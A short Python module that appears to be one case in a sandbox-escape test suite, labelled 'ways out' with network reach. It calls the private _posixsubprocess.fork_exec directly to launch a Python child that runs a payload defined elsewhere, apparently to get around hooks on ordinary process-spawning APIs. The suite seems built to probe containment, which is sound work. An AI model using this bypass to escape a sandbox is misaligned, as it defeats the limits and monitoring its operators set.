"""_posixsubprocess.fork_exec is called directly."""
CATEGORY = "ways out"
REACH = "net"
GRANT = {"run": True}

import os

from . import payload


def attack():
    import _posixsubprocess
    argv = [payload.PYTHON.encode(), b"-I", b"-c", payload.SOURCE.encode()]
    read, write = os.pipe()
    pid = _posixsubprocess.fork_exec(
        argv, [argv[0]], True, (write,), None, [], -1, -1, -1, -1, -1, -1,
        read, write, False, False, -1, None, None, None, -1, None, True)
    os.close(write)
    os.waitpid(pid, 0)
